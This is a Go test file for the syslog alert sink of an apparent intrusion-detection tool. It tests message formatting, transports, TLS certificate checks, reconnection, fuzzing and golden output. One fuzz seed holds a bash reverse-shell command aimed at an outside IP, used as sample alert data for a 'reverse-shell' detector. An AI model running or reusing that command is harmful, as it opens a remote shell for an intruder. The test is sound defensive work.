package sink

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"flag"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/leodido/go-syslog/v4/rfc5424"

	"github.com/tcpsentry/tcpsentry/internal/alert"
)

func TestSyslogSeverityMapping(t *testing.T) {
	for _, tc := range []struct {
		sev  alert.Severity
		want uint8
	}{{alert.Critical, 2}, {alert.High, 3}, {alert.Medium, 4}, {alert.Low, 5}} {
		if got := SyslogSeverity(tc.sev); got != tc.want {
			t.Errorf("%v → %d, want %d", tc.sev, got, tc.want)
		}
	}
}

// checkMessage asserts every field watch promises in a syslog message.
func checkMessage(t *testing.T, raw []byte, a alert.Alert, title bool) {
	t.Helper()
	m := parseStrict(t, raw)
	if *m.Priority != 16*8+2 || *m.Facility != 16 || *m.Severity != 2 || m.Version != 1 {
		t.Errorf("PRI %d facility %d severity %d version %d, want local0.crit (130) v1", *m.Priority, *m.Facility, *m.Severity, m.Version)
	}
	if m.Appname == nil || *m.Appname != "tcpsentry" || m.MsgID == nil || *m.MsgID != a.Detector || m.ProcID == nil {
		t.Errorf("APP-NAME/MSGID/PROCID = %v/%v/%v", m.Appname, m.MsgID, m.ProcID)
	}
	if m.Hostname == nil || *m.Hostname != "sensor-1" {
		t.Errorf("HOSTNAME = %v", m.Hostname)
	}
	if m.Timestamp == nil || time.Since(*m.Timestamp) > time.Hour || time.Since(*m.Timestamp) < -time.Hour {
		t.Errorf("TIMESTAMP = %v", m.Timestamp)
	}
	sd := *m.StructuredData
	want := map[string]string{"detector": "scan", "severity": "critical", "id": a.ID, "src": "10.0.0.66", "dst": "10.0.0.5"}
	for k, v := range want {
		if sd[SyslogSDID][k] != v {
			t.Errorf("SD %s %s = %q, want %q (all: %v)", SyslogSDID, k, sd[SyslogSDID][k], v, sd)
		}
	}
	if m.Message == nil {
		t.Fatal("no MSG")
	}
	if title {
		if *m.Message != a.Title {
			t.Errorf("MSG = %q, want the title %q", *m.Message, a.Title)
		}
		return
	}
	var back alert.Alert
	if err := json.Unmarshal([]byte(*m.Message), &back); err != nil {
		t.Fatalf("MSG is not the alert JSON: %v\n%s", err, *m.Message)
	}
	if back.ID != a.ID || back.Title != a.Title || back.Count != a.Count {
		t.Errorf("MSG alert = %+v", back)
	}
}

func TestSyslogTransports(t *testing.T) {
	caFile, serverTLS := testCA(t)
	for _, tc := range []struct {
		network string
		title   bool
	}{{"udp", false}, {"udp", true}, {"tcp", false}, {"tls", false}, {"tls", true}} {
		t.Run(tc.network+map[bool]string{true: "-title", false: "-json"}[tc.title], func(t *testing.T) {
			got := make(chan []byte, 16)
			var addr string
			switch tc.network {
			case "udp":
				pc, err := net.ListenPacket("udp", "127.0.0.1:0")
				if err != nil {
					t.Fatal(err)
				}
				t.Cleanup(func() { pc.Close() })
				addr = pc.LocalAddr().String()
				go func() {
					buf := make([]byte, 65536)
					for {
						n, _, err := pc.ReadFrom(buf)
						if err != nil {
							return
						}
						got <- append([]byte(nil), buf[:n]...)
					}
				}()
			case "tcp":
				ln, err := net.Listen("tcp", "127.0.0.1:0")
				if err != nil {
					t.Fatal(err)
				}
				addr = ln.Addr().String()
				streamServer(t, ln, got)
			case "tls":
				ln, err := tls.Listen("tcp", "127.0.0.1:0", serverTLS)
				if err != nil {
					t.Fatal(err)
				}
				addr = ln.Addr().String()
				streamServer(t, ln, got)
			}
			s, err := NewSyslog(SyslogOptions{Network: tc.network, Address: addr, Facility: 16, Title: tc.title, CAFile: caFile, Hostname: "sensor-1"})
			if err != nil {
				t.Fatal(err)
			}
			defer s.Close()
			for i := range 3 {
				a := testAlert("id" + itoa(i))
				if err := s.Send(context.Background(), a); err != nil {
					t.Fatalf("send %d: %v", i, err)
				}
				checkMessage(t, recv(t, got), a, tc.title)
			}
		})
	}
}

func TestSyslogTLSRejectsUnknownCA(t *testing.T) {
	_, serverTLS := testCA(t)
	otherCA, _ := testCA(t)
	ln, err := tls.Listen("tcp", "127.0.0.1:0", serverTLS)
	if err != nil {
		t.Fatal(err)
	}
	streamServer(t, ln, make(chan []byte, 1))
	s, err := NewSyslog(SyslogOptions{Network: "tls", Address: ln.Addr().String(), Facility: 16, CAFile: otherCA})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	err = s.Send(context.Background(), testAlert("x"))
	if err == nil || !strings.Contains(err.Error(), "certificate") {
		t.Fatalf("send to a server of another CA: %v, want a certificate error", err)
	}
}

// TestSyslogReconnects restarts the TCP server between messages: the sink
// must notice the closed connection and deliver to the new server, and
// report an error (not success) while nothing listens.
func TestSyslogReconnects(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	got := make(chan []byte, 16)
	stop := streamServer(t, ln, got)
	s, err := NewSyslog(SyslogOptions{Network: "tcp", Address: addr, Facility: 16, Hostname: "sensor-1"})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	if err := s.Send(context.Background(), testAlert("a")); err != nil {
		t.Fatal(err)
	}
	checkMessage(t, recv(t, got), testAlert("a"), false)

	// The server goes down, closing its connections: the sink must see
	// the closed connection and fail rather than write into it.
	stop()
	deadline := time.Now().Add(10 * time.Second)
	var sendErr error
	for time.Now().Before(deadline) {
		if sendErr = s.Send(context.Background(), testAlert("b")); sendErr != nil {
			break
		}
		// Accepted before close: drain what the old connection still took.
		select {
		case <-got:
		default:
		}
		time.Sleep(20 * time.Millisecond)
	}
	if sendErr == nil {
		t.Fatal("send kept succeeding with no server")
	}
	ln2, err := net.Listen("tcp", addr)
	if err != nil {
		t.Skipf("port %s taken by another process meanwhile: %v", addr, err)
	}
	got2 := make(chan []byte, 16)
	streamServer(t, ln2, got2)
	if err := s.Send(context.Background(), testAlert("c")); err != nil {
		t.Fatalf("after the server came back: %v", err)
	}
	checkMessage(t, recv(t, got2), testAlert("c"), false)
}

func FuzzSyslogFormat(f *testing.F) {
	f.Add("vertical SYN scan", "scan", "[x=\"y\"] \\ ]", uint8(4))
	f.Add("", "suspicious-port", "", uint8(1))
	f.Add("naïve \x00\n title", "reverse-shell", "bash -i >& /dev/tcp/1.2.3.4/4444", uint8(3))
	f.Fuzz(func(t *testing.T, title, detector, entity string, sev uint8) {
		a := testAlert(alert.MakeID(detector, entity))
		a.Title, a.Detector, a.Entity = title, detector, entity
		a.Severity = alert.Severity(sev%4 + 1)
		for _, titleMsg := range []bool{false, true} {
			s, err := NewSyslog(SyslogOptions{Network: "udp", Address: "127.0.0.1:514", Facility: 3, Title: titleMsg, Hostname: "h"})
			if err != nil {
				t.Fatal(err)
			}
			msg, err := s.Format(a, time.Unix(1e9, 0))
			if err != nil {
				// Only an alert that cannot be JSON-encoded may fail.
				t.Skip(err)
			}
			m, err := rfc5424.NewParser().Parse(msg)
			if err != nil {
				t.Fatalf("Format produced non-RFC 5424 %q: %v", msg, err)
			}
			sm := m.(*rfc5424.SyslogMessage)
			if got := (*sm.StructuredData)[SyslogSDID]["id"]; got != a.ID {
				t.Errorf("SD id %q, want %q", got, a.ID)
			}
			if got, want := (*sm.StructuredData)[SyslogSDID]["detector"], strings.ToValidUTF8(a.Detector, "\uFFFD"); got != want {
				t.Errorf("SD detector %q, want %q", got, want)
			}
			if titleMsg {
				got := ""
				if sm.Message != nil {
					got = *sm.Message
				}
				if want := strings.ToValidUTF8(a.Title, "\uFFFD"); got != want {
					t.Errorf("MSG %q, want the title %q", got, want)
				}
			}
		}
	})
}

func BenchmarkSyslogFormat(b *testing.B) {
	s, err := NewSyslog(SyslogOptions{Network: "udp", Address: "127.0.0.1:514", Facility: 16, Hostname: "h"})
	if err != nil {
		b.Fatal(err)
	}
	a := testAlert("0123456789abcdef")
	now := time.Now()
	b.ReportAllocs()
	for b.Loop() {
		if _, err := s.Format(a, now); err != nil {
			b.Fatal(err)
		}
	}
}

var update = flag.Bool("update", false, "rewrite golden files")

// TestSyslogFormatGolden pins the exact bytes of a message: header, SD
// escaping of `"`, `\` and `]`, and MSG in both formats.
func TestSyslogFormatGolden(t *testing.T) {
	var got bytes.Buffer
	for _, title := range []bool{false, true} {
		s, err := NewSyslog(SyslogOptions{Network: "tcp", Address: "127.0.0.1:601", Facility: 4, Title: title, Hostname: "sensor 1\x00.example"})
		if err != nil {
			t.Fatal(err)
		}
		s.pid = "4242"
		a := testAlert("0123456789abcdef")
		a.Detector = `odd"det]\x`
		msg, err := s.Format(a, time.Date(2026, 11, 23, 2, 0, 1, 123456789, time.UTC))
		if err != nil {
			t.Fatal(err)
		}
		parseStrict(t, msg)
		got.Write(msg)
		got.WriteByte('\n')
	}
	golden := filepath.Join("testdata", "syslog.golden")
	if *update {
		if err := os.WriteFile(golden, got.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got.Bytes(), want) {
		t.Errorf("syslog messages differ from %s (go test -update):\n got %s\nwant %s", golden, got.Bytes(), want)
	}
}
